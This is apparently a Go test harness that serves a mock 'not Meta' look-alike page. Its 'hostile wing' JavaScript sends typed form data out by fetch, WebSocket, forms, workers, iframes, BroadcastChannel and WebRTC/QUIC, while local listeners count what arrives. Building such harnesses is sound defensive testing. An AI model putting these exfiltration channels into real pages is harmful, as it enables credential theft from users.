package rehearsal

import (
	"context"
	"fmt"
	"html/template"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
)

// WhenKind is when a page of the hostile wing sends.
type WhenKind string

// The moments. A page cannot know when the program reads back or hands over;
// tests call wing.send for these.
const (
	OnFill WhenKind = "fill"   // at the first letter in the form
	OnWalk WhenKind = "walk"   // on the pages before the form, every 400 ms
	Later  WhenKind = "later"  // in the form, two seconds after the last letter
	Timer  WhenKind = "timer"  // everywhere, every 400 ms
	Called WhenKind = "called" // when a script on the page calls wing.send(NAME)
)

// Addresses of the wing. What is sent by a way goes to its path and its name.
const (
	wingPaths = "/hostile/"
	wingRoom  = "/hostile-wing/"
	allWays   = "all"
)

// speak is what a helper of the page does with a message.
const speak = `const say = (m) => {
	if (m.to?.startsWith('wss')) return new WebSocket(m.to);
	if (m.to) return fetch(m.to, {method: 'POST', mode: 'no-cors', body: m.said}).catch(() => {});
	const f = Object.assign(document.createElement('form'), {method: 'post', action: m.form});
	for (const [name, value] of new URLSearchParams(m.said)) f.append(Object.assign(document.createElement('input'), {name, value}));
	document.body.append(f);
	f.submit();
};
`

// wing says what the page's hostile part needs to know; nil on an honest page.
type wing struct {
	Email string            `json:"email"`
	When  WhenKind          `json:"when"`
	Have  []string          `json:"have"`
	Needs map[string]string `json:"needs"`
	Far   string            `json:"far"` // a host of another site
	Port  int               `json:"port"`
	Paths string            `json:"paths"`
	Room  string            `json:"room"`
	Speak string            `json:"speak"`
	Form  bool              `json:"isForm"`
	Trick string            `json:"trick"`
}

// Wing is the hostile part of a page.
func (p *page) Wing() *wing {
	w := &wing{Email: p.Email, When: p.HostileWhen, Have: []string{}, Needs: map[string]string{}, Far: facebookHost, Port: p.s.barePort, Paths: wingPaths, Room: wingRoom,
		Speak: speak, Form: p.Place == atForm}
	if p.Facebook() {
		w.Far = helpHost
	}
	for _, way := range p.s.variant.waysOut() {
		if slices.Contains(named(Tricks()), way.Name) {
			w.Trick = way.Name
			return w
		}
		w.Have = append(w.Have, way.Name)
		if way.Needs != "" {
			w.Needs[way.Name] = way.Needs
		}
	}
	if len(w.Have) == 0 {
		return nil
	}
	return w
}

// WingWays are the ways as functions of the page.
func (p *page) WingWays() template.JS {
	var out strings.Builder
	out.WriteString("{")
	for _, way := range p.s.variant.waysOut() {
		fmt.Fprintf(&out, "%q: (to, full, said, it, as) => { %s },\n", way.Name, way.Script)
	}
	out.WriteString("}")
	return template.JS(out.String()) // #nosec G203: our own scripts
}

// waysOut are those of the variant.
func (v Variant) waysOut() []WayOut {
	if v.Hostile == allWays {
		return WaysOut()
	}
	if way, ok := wayOut(string(v.Hostile)); ok {
		return []WayOut{way}
	}
	return nil
}

// cameBy tells by which way out a request came; empty for an honest one.
func cameBy(r *http.Request) string {
	name, ok := strings.CutPrefix(r.URL.Path, wingPaths)
	if _, known := wayOut(name); !ok || !known || r.URL.RawQuery == "idle" {
		return ""
	}
	return name
}

// hostileAnswer answers what belongs to the wing; false for everything else.
func (s *Site) hostileAnswer(w http.ResponseWriter, r *http.Request) bool {
	if !strings.HasPrefix(r.URL.Path, wingPaths) && !strings.HasPrefix(r.URL.Path, wingRoom) {
		return false
	}
	w.Header().Set("Cache-Control", "no-store")
	dest := r.Header.Get("Sec-Fetch-Dest")
	switch room := strings.TrimPrefix(r.URL.Path, wingRoom); {
	case room == "worker.js":
		w.Header().Set("Content-Type", "text/javascript")
		_, _ = io.WriteString(w, speak+`addEventListener('message', (e) => say(e.data))`)
	case room == "frame":
		hear(w, `onmessage = (e) => say(e.data)`)
	case room == "tab":
		hear(w, `new BroadcastChannel('hostile').onmessage = (e) => say(e.data)`)
	case dest == "document" || dest == "iframe":
		hear(w, "")
	default:
		w.WriteHeader(http.StatusNoContent)
	}
	return true
}

func hear(w http.ResponseWriter, script string) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	fmt.Fprintf(w, "<!doctype html><html lang=en><title>rehearsal</title><p>rehearsal – not Meta</p><script>%s%s</script>", speak, script)
}

// listenBare counts what comes without HTTP: QUIC at the site's own port, and
// STUN and TURN at another one.
func (s *Site) listenBare(ctx context.Context) error {
	if len(s.variant.waysOut()) == 0 {
		return nil
	}
	var lc net.ListenConfig
	turn, err := lc.Listen(ctx, "tcp", "127.0.0.1:0")
	if err != nil {
		return fmt.Errorf("open a port for the hostile wing: %w", err)
	}
	context.AfterFunc(s.ctx, func() { _ = turn.Close() })
	for at, way := range map[string]string{fmt.Sprintf("127.0.0.1:%d", s.port): "web-transport", turn.Addr().String(): "web-rtc"} {
		packets, err := lc.ListenPacket(ctx, "udp", at)
		if err != nil {
			return fmt.Errorf("open a port for the hostile wing: %w", err)
		}
		context.AfterFunc(s.ctx, func() { _ = packets.Close() })
		s.bare.Go(func() { s.countPackets(packets, way) })
	}
	s.barePort = turn.Addr().(*net.TCPAddr).Port
	s.bare.Go(func() {
		for {
			c, err := turn.Accept()
			if err != nil {
				return
			}
			s.tally.submission("web-rtc-tcp", nil)
			_ = c.Close()
		}
	})
	return nil
}

func (s *Site) countPackets(c net.PacketConn, way string) {
	buf := make([]byte, 2048)
	for {
		if _, _, err := c.ReadFrom(buf); err != nil {
			return
		}
		s.tally.submission(way, nil)
	}
}
